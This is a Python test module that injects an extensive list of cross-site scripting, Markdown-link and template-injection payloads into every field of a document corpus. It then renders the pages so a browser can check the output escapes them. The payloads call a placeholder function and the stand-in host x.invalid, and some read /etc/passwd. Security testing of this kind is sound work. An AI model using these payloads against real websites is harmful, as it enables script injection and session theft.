"""A corpus that attacks whoever reads its pages: in every place where text can stand, all that is
known to have made a browser run something.

`python -m tests.attacks FOLDER` writes the pages, for a browser to open.
"""

from __future__ import annotations

import shutil
import sys
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from copy import deepcopy
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import yaml

from ccmtool import compiler
from ccmtool.corpus.corpus import Corpus, read
from ccmtool.corpus.schedule import rows
from ccmtool.files import read_corpus
from ccmtool.formats import FORMATS
from ccmtool.model.base import Ref, Route
from tests.writers.reading import forge

ROOT = Path(__file__).parent.parent
BASES = (ROOT / "docs" / "authoring" / "example", ROOT / "tests" / "corpora" / "arabic")
"""Corpora that use every field, and every turn of the templates for right-to-left script."""

# What runs calls `xss`, what is fetched lies at x.invalid.
WORDS = (
    # elements
    "<script>xss()</script>",
    "<ScRiPt >xss()</sCrIpT >",
    "<script/x>xss()</script>",
    "<<script>xss()//<</script>",
    "<script src=//x.invalid></script>",
    "<script\nsrc=//x.invalid>",
    "<img src=x onerror=xss()>",
    "<img/src=x/onerror=xss()>",
    '<IMG SRC=x ONERROR="xss()">',
    "<img src=x\nonerror=xss()>",
    "<svg onload=xss()>",
    "<svg/onload=xss()//",
    "<svg><script>xss()</script></svg>",
    '<svg><a xlink:href="javascript:xss()"><text>x</text></a></svg>',
    "<svg><animate onbegin=xss() attributeName=x>",
    "<svg><set onbegin=xss() attributeName=x>",
    "<svg><foreignObject><body onload=xss()>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"/></svg>',
    "<math><maction actiontype=statusline xlink:href=javascript:xss()>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "<iframe src=javascript:parent.xss()></iframe>",
    '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
    "<object data=javascript:xss()></object>",
    "<embed src=javascript:xss()>",
    "<form action=javascript:xss()><button>x</button></form>",
    "<button formaction=javascript:xss()>x</button>",
    "<input autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>",
    "<video><source onerror=xss()></video>",
    "<audio src onerror=xss()>",
    "<body onload=xss()>",
    "<marquee onstart=xss()>",
    "<a href=javascript:xss()>x</a>",
    "<a href=x ping=//x.invalid>x</a>",
    "<base href=javascript:xss()//>",
    '<meta http-equiv=refresh content="0;url=javascript:xss()">',
    "<link rel=stylesheet href=//x.invalid>",
    '<style>@import "//x.invalid"</style>',
    "<style>p{background:url(//x.invalid)}</style>",
    "<p style=background:url(//x.invalid)>",
    "<template shadowrootmode=open><script>xss()</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    "<x contenteditable autofocus onfocus=xss() tabindex=0>",
    # what swallows the page behind it
    "<plaintext>",
    "<xmp>",
    "<textarea>",
    "<select>",
    "<frameset onload=xss()>",
    "<!--",
    # out of where text stands
    "</title><script>xss()</script>",
    "</style><script>xss()</script>",
    "</p></div></section></main></body><script>xss()</script>",
    "</td></tr></table><script>xss()</script>",
    "</a></h1><script>xss()</script>",
    "</textarea></xmp></select><script>xss()</script>",
    "--><script>xss()</script>",
    "--!><script>xss()</script>",
    "<!--><script>xss()</script>",
    "<![CDATA[><script>xss()</script>]]>",
    "<?x?><script>xss()</script>",
    '<!DOCTYPE x [<!ENTITY y "z">]><script>xss()</script>',
    # attributes
    '" onmouseover="xss()" x="',
    "' onmouseover='xss()' x='",
    '"onfocus=xss() autofocus tabindex=0 "',
    "x onmouseover=xss() y",
    "` onclick=xss() `",
    '"><script>xss()</script>',
    "'><script>xss()</script>",
    '" style="background:url(//x.invalid)"',
    '" href="javascript:xss()" id="x',
    # styles
    "expression(xss())",
    "url(javascript:xss())",
    "}p{background:url(//x.invalid)}",
    "\\3c script>xss()",
    # letters that stand for others
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "&#x3c;img src=x onerror=xss()&#x3e;",
    "&#0000060script&#0000062xss()",
    "&ltscript&gtxss()",
    "&quot; onclick=&quot;xss()",
    "&amp;lt;script&amp;gt;xss()",
    "%3Cscript%3Exss()%3C/script%3E",
    "\\u003cscript\\u003exss()",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "＜script＞xss()＜/script＞",
    "﹤script﹥xss()",
    "‹script›xss()",
    "<ſcript>xss()</ſcript>",
    "＂ onclick=xss() ＂",
    # templates
    "{{ xss() }}",
    "{{ '<b>'|safe }}",
    "{% autoescape false %}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    "${xss()}",
    "`${xss()}`",
    "<%= xss() %>",
    "#{xss()}",
    '{{constructor.constructor("xss()")()}}',
    # addresses
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    "javascript&colon;xss()",
    "vbscript:xss()",
    "data:text/html,<script>xss()</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "https://x.invalid/'onmouseover='xss()",
    "www.x.invalid/<script>xss()</script>",
    "//x.invalid",
    "xss@x.invalid",
)
"""What prints as it is typed, in a line as in running text."""

MARKUP = (
    "{{ self.__init__.__globals__ }}",
    "[x](javascript:xss())",
    "[x](JavaScript:xss())",
    "[x](javascript:xss%28%29)",
    "[x](java&#115;cript:xss())",
    "[x](java&Tab;script:xss())",
    "[x](java\tscript:xss())",
    "[x](java\nscript:xss())",
    "[x](javascript&colon;xss())",
    "[x]( javascript:xss())",
    "[x](\u00a0javascript:xss())",
    "[x](\\javascript:xss())",
    "[x](<javascript:xss()>)",
    "[x](ｊavascript:xss())",
    "[x](javaſcript:xss())",
    "[x](https:javascript:xss%28%29)",
    "[x](view-source:javascript:xss%28%29)",
    "[x](vbscript:xss)",
    "[x](data:text/html,xss)",
    "[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x.invalid/x)",
    "[x](//x.invalid)",
    '[x](https://x.invalid/"onmouseover="xss)',
    "[x](https://x.invalid/'onmouseover='xss)",
    '[x](https://x.invalid/"><script>xss</script>)',
    '[x](https://x.invalid "onmouseover=xss()")',
    "[x](https://x.invalid/)onmouseover=xss()",
    "[x](https://x.invalid/|x)",
    '[x](mailto:a@b"onclick="xss)',
    "[<script>xss()</script>](https://x.invalid/)",
    "[[x](javascript:xss%28%29)](https://x.invalid/)",
    "![x](javascript:xss())",
    "![x](https://x.invalid/x.png)",
    '![" onerror="xss()](https://x.invalid/x.png)',
    "[x]: javascript:xss()",
    "[x][x]",
    "<javascript:xss()>",
    "<javascript:xss>",
    "<data:text/html,xss>",
    "<svg:script>xss()</svg:script>",
    '<https://x.invalid/"onmouseover="xss>',
    '[x](doc:"onmouseover="xss)',
    '<doc:"onmouseover="xss>',
    '<meeting:x/"onmouseover="xss>',
    '[x](item:x/"onclick="xss)',
    '[x](question:"onclick="xss)',
    '[x](passage:"onclick="xss)',
    '[^"onclick="xss]',
    "[^<script>xss</script>]",
    "**<script>xss()</script>**",
    "*</em><script>xss()</script>*",
    "\\<script>xss()\\</script>",
    "`<script>xss()</script>`",
    "``` <script>xss()</script> ```",
    "~~<script>xss()</script>~~",
    "$<script>xss()</script>$",
    "$`x`$",
    "# <script>xss()</script>",
    "- <script>xss()</script>",
    "1. <svg onload=xss()>",
    "> <script>xss()</script>",
    "    <script>xss()</script>",
    "\n\n    <script>xss()</script>\n\n",
    "\n\n```html\n<script>xss()</script>\n```\n\n",
    "\n\n> - 1. <script>xss()</script>\n\n",
    "\n\n| <script>xss()</script> | x |\n| --- | --- |\n| <img src=x onerror=xss()> | \\| |\n\n",
    "\n\n<script>\nxss()\n</script>\n\n",
    "\n\n<div onmouseover=xss()>\n\nx\n\n</div>\n\n",
)
"""What running text may read as markup."""

ADDRESSES = (
    "javascript:xss()//{symbol}",
    "JAVASCRIPT:xss()//{symbol}",
    "javascript:%0axss()//{symbol}",
    "javascript://x.invalid/%0axss()//{symbol}",
    " javascript:xss()//{symbol}",
    "\tjava\tscript:xss()//{symbol}",
    "java\nscript:xss()//{symbol}",
    "\u00a0javascript:xss()//{symbol}",
    "\u3000javascript:xss()//{symbol}",
    "ｊavascript:xss()//{symbol}",
    "javaſcript:xss()//{symbol}",
    "javascript：xss()//{symbol}",
    "javascript&colon;xss()//{symbol}",
    "java&#115;cript:xss()//{symbol}",
    "&#106;avascript:xss()//{symbol}",
    "vbscript:xss()//{symbol}",
    "data:text/html,<script>xss()</script>{symbol}",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "blob:https://x.invalid/{symbol}",
    "filesystem:https://x.invalid/{symbol}",
    "file:///etc/passwd?{symbol}",
    "view-source:javascript:xss()//{symbol}",
    "https:javascript:xss()//{symbol}",
    "//x.invalid/{symbol}",
    "/\\x.invalid/{symbol}",
    "{symbol}",
    "?{symbol}",
    '"onmouseover="xss()" {symbol}',
    'https://x.invalid/"onmouseover="xss()"{symbol}',
    "https://x.invalid/'onmouseover='xss()'{symbol}",
    'https://x.invalid/"><script>xss()</script>{symbol}',
    "https://x.invalid/)[x](javascript:xss()){symbol}",
    "https://x.invalid/){symbol}<script>xss()</script>",
    "https://x.invalid/{symbol}{symbol}{symbol}",
)
"""Where the register of documents says that they are found."""

KEYS = ('"onclick="xss', "<script>xss</script>", "'onclick='xss", "--><svg/onload=xss>", "|x|`x`")
"""What the keys of notes may be."""

_ROUND = 800  # a line has at most 1,000 characters
_SHORT = tuple(attack for attack in WORDS if len(attack) <= 40)  # as those before a label


def rounds() -> list[str]:
    """All attacks, in portions that every field takes."""
    found = [""]
    for attack in (*WORDS, *MARKUP):
        if len(found[-1]) + len(attack) > _ROUND:
            found.append("")
        found[-1] += f"{attack} "
    return [portion.rstrip(" ") for portion in found]


def attacked(base: Path, number: int) -> Corpus:
    """A corpus with a portion of the attacks in each of its texts, before or behind the words."""
    portion = rounds()[number % len(rounds())]
    files = {}
    for path, file in open_to_attack(base).items():
        data = deepcopy(file.data)
        for route in file.texts:
            old = _at(data, route)
            _put(data, route, f"{portion} {old}" if number % 2 else f"{old} {portion}")
        for route in file.short:
            _put(data, route, _SHORT[number % len(_SHORT)])
        if data["kind"] == "documents":
            data["address"] = ADDRESSES[number % len(ADDRESSES)]
        files[path] = _dump(_with_hostile_keys(data, KEYS[number % len(KEYS)]))
    return _sound(files)


def attacked_links(base: Path, portion: str) -> Corpus:
    """A corpus with an attack in place of every value that may be anything: of ids as well."""
    files = {}
    for path, (data, routes) in _open_to_anything(base).items():
        data = deepcopy(data)
        for route in routes:
            _put(data, route, portion)
        files[path] = _dump(data)
    return _sound(files)


def addressed(address: str) -> Corpus:
    """The first corpus as it is, with another address for the documents of its register."""
    files = {}
    for path, content in read_corpus(BASES[0])[0].items():
        data = yaml.load(content, yaml.CBaseLoader)
        if data["kind"] == "documents":
            data["address"] = address
        files[path] = _dump(data)
    return _sound(files)


def pages(corpus: Corpus, *ids: str) -> Iterator[tuple[str, str]]:
    """Name and text of some pages of a corpus, or all; one in Markdown as a forge shows it."""
    found = list(compiler.render(corpus, compiler.select(corpus, None, ids), FORMATS))
    if not ids:
        found += [compiler.render_timeline(corpus, rows(corpus), (), format) for format in FORMATS]
    for page in found:
        text = page.content.decode()
        yield page.name, forge(text, "autolink") if page.format == "markdown" else text


@dataclass(frozen=True, slots=True)
class Open:
    """The data of a file, and the places in it of texts that may be any: long ones, short ones."""

    data: Any
    texts: Sequence[Route]
    short: Sequence[Route]


@cache
def open_to_attack(base: Path) -> Mapping[str, Open]:
    """What of each file of a corpus can be attacked, so that all links still lead somewhere."""
    found = {}
    for path, content in read_corpus(base)[0].items():
        data = yaml.load(content, yaml.CBaseLoader)
        (entry,) = read({path: content}).entries
        named = {route for route, value in entry.walk() if isinstance(value, Ref)}
        leaves = [
            route
            for route in _leaves(data)
            if not named & {route, (*route, 0)} and (entry.kind, route[-1]) not in _NAMED
        ]
        texts = _accepting(path, data, leaves, lambda old: f"{old} {rounds()[0]}")
        short = _accepting(path, data, leaves, lambda _: _SHORT[0])
        found[path] = Open(data, texts, [route for route in short if route not in texts])
    return found


@cache
def _open_to_anything(base: Path) -> Mapping[str, tuple[Any, list[Route]]]:
    """The data of each file, and the places in it of values that may be anything."""
    found = {}
    for path, content in read_corpus(base)[0].items():
        data = yaml.load(content, yaml.CBaseLoader)
        found[path] = data, _accepting(path, data, list(_leaves(data)), lambda _: rounds()[0])
    return found


# What links name: with another value, nothing would print what they lead to.
_NAMED = {("instruments", "number")}


def _accepting(
    path: str, data: Any, routes: list[Route], change: Callable[[str], str]
) -> list[Route]:
    """Those places whose value may be changed so."""
    found = []
    for route in routes:
        tried = deepcopy(data)
        _put(tried, route, change(_at(data, route)))
        (entry,) = read({path: _dump(tried)}).entries
        if entry.model and not entry.problems:
            found.append(route)
    return found


def _with_hostile_keys(data: Any, key: str) -> Any:
    """The data with a hostile key for each of its notes, where it is marked as well."""
    names = {f"[^{old}]": f"[^{key}{old}]" for old in data.get("notes", ())}
    if names:
        data["notes"] = {f"{key}{old}": note for old, note in data["notes"].items()}
    for route in _leaves(data):
        text = _at(data, route)
        for old, new in names.items():
            text = text.replace(old, new)
        _put(data, route, text)
    return data


def _sound(files: Mapping[str, bytes]) -> Corpus:
    corpus = read(dict(files))
    problems = [str(problem) for entry in corpus.entries for problem in entry.problems]
    if problems:
        raise ValueError("\n".join(problems))
    return corpus


def _leaves(data: Any, route: Route = ()) -> Iterator[Route]:
    if isinstance(data, dict):
        for key, value in data.items():
            yield from _leaves(value, (*route, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from _leaves(value, (*route, index))
    else:
        yield route


def _at(data: Any, route: Route) -> Any:
    for step in route:
        data = data[step]
    return data


def _put(data: Any, route: Route, value: str) -> None:
    _at(data, route[:-1])[route[-1]] = value


def _dump(data: Any) -> bytes:
    return yaml.dump(data, allow_unicode=True, sort_keys=False, width=1_000_000).encode()


def main(folder: Path) -> None:
    """Write the pages of every round, each in a folder of its own."""
    shutil.rmtree(folder, ignore_errors=True)
    for number, portion in enumerate(rounds()):
        for base in BASES:
            _write(folder / f"{base.name}-{number}", pages(attacked(base, number)))
        _write(folder / f"links-{number}", pages(attacked_links(BASES[0], portion)))
    for number, address in enumerate(ADDRESSES):
        _write(folder / f"address-{number}", pages(addressed(address), "im-2027-agenda"))


def _write(folder: Path, found: Iterable[tuple[str, str]]) -> None:
    folder.mkdir(parents=True)
    for name, text in found:
        (folder / name.replace(".md", ".md.html")).write_text(text, "utf-8")


if __name__ == "__main__":
    main(Path(sys.argv[1]))
